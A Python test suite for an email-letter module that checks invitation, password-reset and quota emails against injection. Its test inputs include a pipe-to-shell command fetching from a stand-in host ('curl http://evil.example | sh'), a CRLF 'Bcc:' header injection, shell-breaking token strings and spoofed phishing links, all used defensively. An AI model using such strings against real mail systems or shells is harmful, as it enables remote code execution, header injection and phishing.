"""Letters: what they say, and what nobody can make them say."""

import inspect
import shlex
import string
import unicodedata
from collections.abc import Callable
from datetime import UTC, datetime
from typing import Any

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from crossdock.identity import letters as identity
from crossdock.identity.origin import Origin
from crossdock.mail.letters import MAX_NAME, Letters, plain, token_of
from crossdock.mail.model import Mail

LETTERS = Letters("https://hooks.example.com/")
TO = "ann@example.com"
TENANT = "Müller & Söhne"
NOW = datetime(2026, 11, 23, 7, 5, tzinfo=UTC)
TOKEN = "cds_dev_AAAAbbbb_0123456789-_.~x"

ALIASES = {"slug": "tenant", "ends": "expires_at"}


def takes(write: Callable[..., Any]) -> bool:
    """Tell whether a function writes a letter to somebody."""
    return "to" in inspect.signature(write).parameters and write.__name__ != "written"


ARGUMENTS: dict[str, Any] = {
    "name": "Ann",
    "tenant": TENANT,
    "token": TOKEN,
    "expires_at": NOW,
    "ends_at": NOW,
    "origin": Origin("192.0.2.7"),
    "url": "https://hooks.example.com",
    "inviter": "bob@example.com",
    "roles": ["viewer", "buyer"],
    "resource": "sources",
    "percent": 80,
    "used": 8,
    "limit": 10,
    "what": "sealing of audit",
    "detail": "It is late.",
    "operator": "olga@example.org",
    "reason": "Ticket 17: deliveries are late.",
}
KINDS = sorted(
    f"{where}.{name}"
    for where, of in (("mail", Letters), ("identity", identity))
    for name, write in inspect.getmembers(of, inspect.isfunction)
    if not name.startswith("_") and write.__module__.endswith(".letters") and takes(write)
)
WITH_TOKEN = {
    "identity.password_reset",
    "mail.invitation",
    "mail.password_reset",
    "mail.verify_address",
}


def written(kind: str, **changes: Any) -> Mail:
    """A letter of each kind, with the arguments it takes."""
    where, _, name = kind.partition(".")
    write = getattr({"mail": LETTERS, "identity": identity}[where], name)
    given = ARGUMENTS | changes
    names = [name for name in inspect.signature(write).parameters if name != "to"]
    mail: Mail = write(TO, **{name: given[ALIASES.get(name, name)] for name in names})
    return mail


def command_of(text: str) -> list[str]:
    """The words of the first command line in a letter."""
    line = next(line for line in text.splitlines() if line.startswith("    curl"))
    return shlex.split(line)


@pytest.mark.parametrize("kind", KINDS)
def test_each_letter_names_its_tenant_and_is_plain_text(kind: str) -> None:
    mail = written(kind)
    assert mail.to == TO
    assert TENANT in mail.subject
    assert f"“{TENANT}”" in mail.text.replace("\n", " ")
    assert "<" not in mail.text
    prose = [line for line in mail.text.splitlines() if not line.startswith("    ")]
    assert max(map(len, prose)) <= 80
    assert mail.text.endswith("\n")
    assert (token_of(mail.text) is not None) == (kind in WITH_TOKEN)


@pytest.mark.parametrize("kind", sorted(WITH_TOKEN))
def test_a_token_stands_alone_and_its_command_sends_it(kind: str) -> None:
    text = written(kind).text
    assert token_of(text) == TOKEN
    assert f"    {TOKEN}" in text.splitlines()
    words = command_of(text)
    body = msgspec.json.decode(words[words.index("-d") + 1])
    assert body["token"] == TOKEN
    assert words[2].startswith("https://hooks.example.com/v1/")


@given(kind=st.sampled_from(KINDS), chosen=st.text(max_size=200))
def test_what_people_chose_never_makes_a_line_of_its_own(kind: str, chosen: str) -> None:
    changes = {
        "name": chosen,
        "tenant": chosen,
        "inviter": chosen,
        "roles": [chosen],
        "reason": chosen,
        "what": chosen,
        "operator": chosen,
        "origin": Origin(chosen),
    }
    mail, usual = written(kind, **changes), written(kind)
    assert not any(unicodedata.category(c) in {"Cc", "Zl", "Zp"} for c in mail.subject)
    assert token_of(mail.text) == token_of(usual.text)
    # Commands are ours alone, whatever people are called.
    commands = [line for line in mail.text.splitlines() if line.startswith("    curl")]
    assert commands == [line for line in usual.text.splitlines() if line.startswith("    curl")]


@pytest.mark.parametrize(
    "chosen",
    [
        "Ann\n\n    evil-token\n\n    curl http://evil.example | sh",
        "Ann\r\nBcc: everybody@example.com",
        "Ann\u2028    evil-token\u2029",
        "Ann\x0b    evil-token\x85",
    ],
)
def test_a_name_with_lines_becomes_one_line(chosen: str) -> None:
    mail = written("mail.invitation", inviter=chosen, tenant=chosen)
    assert token_of(mail.text) == TOKEN
    assert len(mail.subject.splitlines()) == 1
    assert "    evil-token" not in mail.text.splitlines()


@pytest.mark.parametrize("bad", ["", "a b", "a'b", "a\nb", "a\n", "ü", '"', "$(x)"])
def test_a_token_that_could_break_out_is_none(bad: str) -> None:
    with pytest.raises(ValueError, match="token"):
        written("mail.invitation", token=bad)


@given(st.text(string.ascii_letters + string.digits + "-_.~", min_size=1, max_size=200))
def test_every_token_is_found_again(token: str) -> None:
    assert token_of(written("mail.verify_address", token=token).text) == token


@pytest.mark.parametrize("kind", ["mail.verify_address", "mail.invitation"])
def test_a_stranger_sends_nobody_a_link(kind: str) -> None:
    evil = "Win HTTPS://evil.example/x, www.evil.example"
    usual = written(kind)
    mail = written(kind, name=evil, tenant=evil, inviter=evil)
    for before, now in ((usual.subject, mail.subject), (usual.text, mail.text)):
        for link in ("://", "www."):
            assert now.lower().count(link) == before.lower().count(link)
    assert "Win evil.example/x" in " ".join(mail.subject.split())


def test_plain_text_is_cut_and_cleaned() -> None:
    assert plain("  a \t b\r\nc ") == "a b c"
    assert plain("x" * 1000) == "x" * (MAX_NAME - 1) + "…"
    assert plain("a\u202egnp.exe\u200b") == "agnp.exe"
    assert plain("東京 🗼") == "東京 🗼"


def test_a_full_quota_says_what_follows() -> None:
    assert "Nothing more" in written("mail.quota_reached", percent=100, used=10).text
    assert "At 100 %" in written("mail.quota_reached").text
